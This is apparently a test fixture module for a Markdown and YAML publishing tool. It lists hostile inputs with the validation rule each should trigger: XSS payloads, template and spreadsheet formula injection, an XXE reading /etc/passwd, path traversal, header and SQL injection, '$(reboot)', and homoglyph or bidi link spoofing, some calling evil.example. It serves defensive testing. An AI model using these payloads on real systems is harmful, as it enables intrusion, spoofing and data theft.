// SPDX-License-Identifier: EUPL-1.2
// What somebody may write to get more out of a text than a text. 'taken' is data: it is shown as it stands. 'refused' has the rule that says so.

// Planted in every field of every type, in bodies, and in site.yaml.
export const taken = [
	"<script>alert(1)</script>", "</script><script>alert(1)</script>", "<script src=//evil.example></script>", "<SCRIPT>alert(1)</SCRIPT >",
	"\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" onmouseover=\"alert(1)",
	"\" autofocus onfocus=alert(1) x=\"", "x\" style=\"background:url(//evil.example)", "` onload=alert(1) `", "<svg/onload=alert(1)>",
	"<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
	"<iframe src=\"javascript:alert(1)\">", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<style>*{background:url(//evil.example)}</style>",
	"<link rel=stylesheet href=//evil.example>", "<a href=\"javascript:alert(1)\">x</a>", "<base href=\"https://evil.example/\">",
	"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "<form action=\"https://evil.example\"><input name=q>",
	"<button formaction=javascript:alert(1)>x</button>", "<object data=\"data:text/html,x\">", "<embed src=x>", "<video onerror=alert(1)><source>",
	"<details open ontoggle=alert(1)>", "<body onload=alert(1)>", "<plaintext>", "<template><script>alert(1)</script></template>",
	"<!--><script>alert(1)</script>-->", "<!-- x", "--><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "]]><b>",
	"<?php echo 1 ?>", "<?xml-stylesheet href=\"x\"?>", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
	"</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
	"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&amp;lt;b&amp;gt;", "&quot;onload=alert(1)&quot;", "&NewLine;&Tab;&colon;",
	"%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "\\x3cscript\\x3e", "+ADw-script+AD4-alert(1)", "\uff1cscript\uff1ealert(1)",
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
	"{{title}}", "{{{body}}}", "{{> layout}}", "{{=<% %>=}}", "{{#records}}x{{/records}}", "{{! x }}", "{{$content}}x{{/content}}", "${alert(1)}", "<%= 7*7 %>",
	"=HYPERLINK(\"https://evil.example\",\"x\")", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\"=1+1\"", "a\n=1+1", ";=1+1", ",=1+1",
	") /S /JavaScript /JS (app.alert(1)) (", ">> /OpenAction << /S /JavaScript /JS (x) >>", "\\) >> endobj", "a\"b'c\\d/e", "a\r\nX-Injected: 1",
	"../../../../etc/passwd", "file:///etc/passwd", "__proto__", "constructor", "a\u200f1\u200eb", "a\u00adb", "-- '; DROP TABLE x; --", "$(reboot) `reboot`",
];

// Behind 'https://example.nl/' in a value that is an address.
export const paths = ["'onmouseover=alert(1)//", ";javascript:alert(1)", "&quot;onload=1", "%22%3E%3Cscript%3E", "?a=1&copy=2&lt;b#x'(y)", "%0d%0aX-Injected:1", "../..//x", "caf\u00e9)/URI(x"];

// Destinations of links and pictures: [destination as in Markdown, rule].
export const destinations = [
	["javascript:alert(1)", "link-broken"], ["JAVASCRIPT:alert(1)", "link-broken"], ["java&#115;cript:alert(1)", "link-broken"], ["javascript&colon;alert(1)", "link-broken"],
	["&#1;javascript:alert(1)", "text-unseen"], ["java&Tab;script:alert(1)", "text-unseen"], ["java&NewLine;script:alert(1)", "text-unseen"],
	["data:text/html;base64,PHNjcmlwdD4=", "link-broken"], ["data:image/svg+xml,x", "link-broken"], ["vbscript:msgbox(1)", "link-broken"],
	["file:///etc/passwd", "link-broken"], ["blob:https://x/1", "link-broken"], ["intent://x", "link-broken"], ["ftp://example.nl/", "link-broken"],
	["//evil.example/", "link-broken"], ["/etc/passwd", "link-broken"], ["\\\\evil.example", "link-broken"], ["https:evil.example", "link-broken"],
	["https:/\\evil.example", "link-broken"], ["https://a.example\\@b.example", "address-deceives"], ["<https://a.example\\\\@b.example/>", "link-broken"],
	["../../etc/passwd", "link-broken"], ["pages/../../etc/passwd", "link-broken"], ["files/../../etc/passwd", "link-broken"], ["files/../site.yaml", "link-broken"],
	["files//etc/passwd", "link-broken"], ["files/%2e%2e/site.yaml", "link-broken"], ["files/..%2fsite.yaml", "link-broken"], ["files\\..\\site.yaml", "link-broken"],
	["pages/%2e%2e", "link-broken"], ["pages/x\\y", "link-broken"], ["pages/\u0430", "link-broken"], ["pages/\u202ex", "text-unseen"], ["pages/x\u200b", "text-unseen"],
	["https://example.nl/\u202etxt.exe", "text-unseen"], ["https://example\u200b.nl/", "text-unseen"], ["https://example.nl/&#x202e;x", "text-unseen"],
	["files/x.svg", "file-active"], ["files/x.HTML", "file-active"], ["files/x.html.pdf", "file-active"], ["files/x.js", "file-active"],
];

// Destinations that are fine, with a warning: the reader is told where they lead, or the author.
export const deceiving = [
	["[x](https://\u0430pple.example/)"], ["[x](https://r\u0131jksoverheid.nl/)"], ["[x](https://ex%61mple.nl/)"], ["[x](https://www.rijksoverheid.nl@evil.example/)"],
	["[x](http://a:b@evil.example/)"], ["[https://www.rijksoverheid.nl/x](https://evil.example/)"], ["[https://a.example](https://b.example)"],
	["https://\u0430pple.example/x"], ["<https://\uff45xample.nl/>"], ["[x](https://example.nl\u3002evil.example/)"], ["[a]\n\n[a]: https://\u0435xample.nl/"],
];

// Values of keys: [key, value, rule].
export const values = [
	["see", ["pages/\u202ex"], "text-unseen"], ["see", ["pages/\u0430"], "id-malformed"], ["see", ["pages/x\\..\\y"], "id-malformed"], ["see", ["../../etc/passwd"], "id-malformed"],
	["see", ["/etc/passwd"], "id-malformed"], ["see", ["pages//x"], "id-malformed"], ["see", ["pages/x\0"], "text-unseen"], ["see", ["pages/%2e%2e"], "id-malformed"],
	["aliases", ["pages/../../x"], "id-malformed"], ["aliases", ["pages/x\u200by"], "id-malformed"], ["aliases", ["pages/x y"], "id-malformed"], ["aliases", ["pages/\"onload=\""], "id-malformed"],
	["aliases", ["/x"], "id-malformed"], ["aliases", ["pages/X"], "id-malformed"], ["aliases", ["pages/index"], "id-malformed"],
	["source", "javascript:alert(1)", "value-url"], ["source", "data:text/html,x", "value-url"], ["source", "http://example.nl/", "value-url"], ["source", "https://", "value-url"],
	["source", "https://example.nl/\"onload=1", "value-url"], ["source", "https://example.nl/<b>", "value-url"], ["source", "https://example.nl/ x", "value-url"],
	["source", "https://example.nl/\u200bx", "value-url"], ["source", "https://example.nl/\u202ex", "text-unseen"], ["source", "https://example.nl\\@evil.example", "value-url"],
	["lang", "nl\" onload=\"x", "value-type"], ["lang", "<b>", "value-type"], ["kamerstuk", "<script>", "value-kamerstuk"], ["date", "2026-01-01<b>", "value-date"],
	["publish_from", "2026-01-01T00:00:00+01:00<b>", "value-date"], ["visibility", "public<b>", "choice-unknown"],
	["title", "a\u0000b", "text-unseen"], ["title", "a\u0007b", "text-unseen"], ["title", "a\u001b[31mb", "text-unseen"], ["title", "a\u007fb", "text-unseen"], ["title", "a\u0085b", "text-unseen"],
	["title", "a\u009b31mb", "text-unseen"], ["title", "a\u202eb", "text-unseen"], ["title", "a\u2066b", "text-unseen"], ["title", "a\u{e0041}b", "text-unseen"], ["title", "a\ufffeb", "text-unseen"],
	["summary", "a\u202eb", "text-unseen"], ["extra", { "a\u202eb": 1 }, "text-unseen"], ["extra", { a: ["b\u001bc"] }, "text-unseen"],
];

// Paths of attachments: [path, rule].
export const attachments = [
	["../../etc/passwd", "id-malformed"], ["/etc/passwd", "id-malformed"], ["a/../../x", "id-malformed"], ["..\\x", "id-malformed"], ["files/../site.yaml", "id-malformed"], ["a//b", "id-malformed"],
	["%2e%2e/site.yaml", "file-unknown"], [".", "file-unknown"], ["con", "file-unknown"], ["x.pdf\0.html", "text-unseen"],
	["x.svg", "file-active"], ["x.svgz", "file-active"], ["x.HTML", "file-active"], ["x.html.pdf", "file-active"], ["x.xhtml", "file-active"], ["x.xml", "file-active"], ["x.js", "file-active"], ["x.php", "file-active"],
];

// Bodies: [Markdown, rule]. Controls written as themselves and as entities.
export const bodies = [
	["![x](https://evil.example/p.png)", "image-place"], ["![x](http://evil.example/p.png)", "image-place"], ["![x](mailto:a@evil.example)", "image-place"], ["![x](pages/x)", "image-place"],
	["![x][a]\n\n[a]: https://evil.example/p.png", "image-place"], ["![x](#kop)\n\n## Kop", "image-place"],
	["a\u001b[31mb", "text-unseen"], ["a\u009b31mb", "text-unseen"], ["a\u202eb", "text-unseen"], ["a&#27;b", "text-unseen"], ["a&#x9b;b", "text-unseen"], ["a&#x202e;b", "text-unseen"],
	["## a&#x2067;b", "text-unseen"], ["| a |\n|---|\n| &#8238; |", "text-unseen"], ["[^a]\n\n[^a]: &#8238;", "text-unseen"], ["![&#8238;](files/x.png)", "text-unseen"], ["[&#8238;](pages/x)", "text-unseen"],
	["<javascript:alert(1)>", "link-broken"], ["[x][a]\n\n[a]: javascript:alert(1)", "link-broken"],
	["``` savings-list\ntheme: ../../x\n```", "id-malformed"],
];
